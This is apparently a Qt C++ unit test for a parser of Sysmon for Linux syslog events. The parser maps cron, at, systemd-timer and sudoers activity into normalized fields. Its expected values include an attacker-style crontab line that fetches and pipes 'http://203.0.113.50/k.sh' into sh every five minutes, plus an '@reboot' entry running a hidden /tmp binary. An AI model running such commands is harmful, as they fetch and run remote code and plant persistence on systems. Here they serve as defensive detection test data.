#include "ReaderTestSupport.h"

#include "ingest/FormatRegistry.h"
#include "ingest/LinuxSysmonSyslogReader.h"
#include "ingest/LinuxTaskActivity.h"

#include <QTest>

using namespace tb;
using namespace tb::testing;

class TestLinuxSysmonSyslogReader : public QObject {
    Q_OBJECT

    static QString sample() {
        return QStringLiteral(TEST_DATA_DIR "/formats/linux/sysmon_for_linux_syslog.log");
    }
    static QString mixed() { return QStringLiteral(TEST_DATA_DIR "/native/linux/sysmon_syslog_mixed.log"); }
    static ReadResult read(const QString &path) { return readFile(factory<LinuxSysmonSyslogReader>(), path); }

private slots:
    void detects_data() {
        QTest::addColumn<QString>("file");
        QTest::newRow("traditional prefix") << sample();
        QTest::newRow("RFC 3339 prefix, pid, other programs") << mixed();
    }
    void detects() {
        QFETCH(QString, file);
        const ImportFormat *detected = FormatRegistry::instance().detect(FileHead::fromBytes(head(file)));
        QVERIFY(detected);
        QCOMPARE(detected->id, QStringLiteral("linux.sysmon.syslog"));
    }

    void readsEveryLine() {
        const ReadResult result = read(sample());
        QVERIFY2(result.issues.isEmpty(), qPrintable(result.issueText(0)));
        QCOMPARE(result.events.size(), 7);
        for (int i = 0; i < 7; ++i) {
            QCOMPARE(result.events[i].recordNo, i);
            QVERIFY(result.events[i].raw.startsWith(QLatin1String("Mar  4 ")));
            QCOMPARE(result.events[i].value(EventField::Platform), QStringLiteral("linux"));
        }
    }

    void mapsFields_data() {
        QTest::addColumn<int>("record");
        QTest::addColumn<QString>("column");
        QTest::addColumn<QString>("expected");
        QTest::newRow("nanoseconds to µs") << 1 << "time_utc"
                                           << "2025-03-04T12:13:51.377102Z";
        QTest::newRow("host") << 1 << "host"
                              << "web-01";
        QTest::newRow("rule") << 0 << "rule_name"
                              << "Linux 11 Sysmon file created";
        QTest::newRow("dpkg's cron file") << 0 << "task_name"
                                          << "/etc/cron.d/sysstat";
        QTest::newRow("user name") << 1 << "user"
                                   << "www-data";
        QTest::newRow("escaped command line")
            << 1 << "command_line"
            << "sh -c (crontab -l 2>/dev/null; echo '*/5 * * * * curl -fsSL "
               "http://203.0.113.50/k.sh | sh') | crontab -";
        QTest::newRow("cron line from the shell") << 1 << "task_action"
                                                  << "curl -fsSL http://203.0.113.50/k.sh | sh";
        QTest::newRow("schedule") << 1 << "task_trigger"
                                  << "cron(*/5 * * * *)";
        QTest::newRow("parent") << 1 << "parent_image"
                                << "/usr/sbin/php-fpm8.2";
        QTest::newRow("crontab -") << 2 << "task_name"
                                   << "/var/spool/cron/crontabs/www-data";
        QTest::newRow("hidden cron file") << 4 << "target_path"
                                          << "/etc/cron.d/.sys-update";
        QTest::newRow("created") << 4 << "task_operation"
                                 << "created";
        QTest::newRow("timer") << 5 << "task_name"
                               << "/etc/systemd/system/apt-daily-upgrade-helper.timer";
        QTest::newRow("sudoers.d") << 6 << "task_name"
                                   << "/etc/sudoers.d/90-cloud-init-users";
    }
    void mapsFields() {
        QFETCH(int, record);
        QFETCH(QString, column);
        QFETCH(QString, expected);
        const ReadResult result = read(sample());
        QVERIFY(record < result.events.size());
        QCOMPARE(value(result.events[record], column), expected);
    }

    void otherProgramsAndTruncatedEvents() {
        const ReadResult result = read(mixed());
        QCOMPARE(result.events.size(), 2);
        QCOMPARE(result.events[0].recordNo, 1); // line 1 is cron's own message: no record
        QCOMPARE(result.events[0].value(EventField::ProcessName), QStringLiteral("crontab"));
        QCOMPARE(result.issues.size(), 1);
        QVERIFY2(
            result.issueText(0).startsWith(QLatin1String("sysmon_syslog_mixed.log:record 2 (line 3): the "
                                                         "event is cut off (the syslog daemon's message "
                                                         "size limit?): it ends with \"")),
            qPrintable(result.issueText(0)));
    }

    void argv_data() {
        QTest::addColumn<QString>("commandLine");
        QTest::addColumn<QStringList>("argv");
        QTest::newRow("words") << "crontab -u bob -e" << QStringList{"crontab", "-u", "bob", "-e"};
        QTest::newRow("quotes") << "at -f '/tmp/a b' \"now + 1 minute\""
                                << QStringList{"at", "-f", "/tmp/a b", "now + 1 minute"};
        QTest::newRow("shell script stays whole") << "/bin/bash -c echo 'x y' | crontab -"
                                                  << QStringList{"/bin/bash", "-c", "echo 'x y' | crontab -"};
    }
    void argv() {
        QFETCH(QString, commandLine);
        QFETCH(QStringList, argv);
        QCOMPARE(LinuxTaskActivity::argvFromCommandLine(commandLine), argv);
    }

    void taskCommands_data() {
        QTest::addColumn<QString>("commandLine");
        QTest::addColumn<QString>("operation");
        QTest::addColumn<QString>("name");
        QTest::addColumn<QString>("trigger");
        QTest::newRow("crontab -r") << "crontab -r"
                                    << "deleted"
                                    << "/var/spool/cron/crontabs/alice"
                                    << "";
        QTest::newRow("crontab -u") << "crontab -u bob /tmp/c"
                                    << "updated"
                                    << "/var/spool/cron/crontabs/bob"
                                    << "";
        QTest::newRow("crontab -l is no change") << "crontab -l"
                                                 << ""
                                                 << ""
                                                 << "";
        QTest::newRow("atrm") << "atrm 12"
                              << "deleted"
                              << "12"
                              << "";
        QTest::newRow("systemctl enable timer") << "systemctl enable --now x.timer"
                                                << "enabled"
                                                << "x.timer"
                                                << "";
        QTest::newRow("@reboot line") << "sh -c echo \"@reboot /tmp/.u/run\" | crontab -"
                                      << "updated"
                                      << "/var/spool/cron/crontabs/alice"
                                      << "cron(@reboot)";
        QTest::newRow("plain shell") << "sh -c ls -la"
                                     << ""
                                     << ""
                                     << "";
    }
    void taskCommands() {
        QFETCH(QString, commandLine);
        QFETCH(QString, operation);
        QFETCH(QString, name);
        QFETCH(QString, trigger);
        NormalizedEvent event;
        LinuxTaskActivity::applyCommand(event, LinuxTaskActivity::argvFromCommandLine(commandLine),
                                        QStringLiteral("alice"));
        QCOMPARE(event.value(EventField::TaskOperation), operation);
        QCOMPARE(event.value(EventField::TaskName), name);
        QCOMPARE(event.value(EventField::TaskTrigger), trigger);
    }
};

QTEST_GUILESS_MAIN(TestLinuxSysmonSyslogReader)
#include "tst_linuxsysmonsyslogreader.moc"
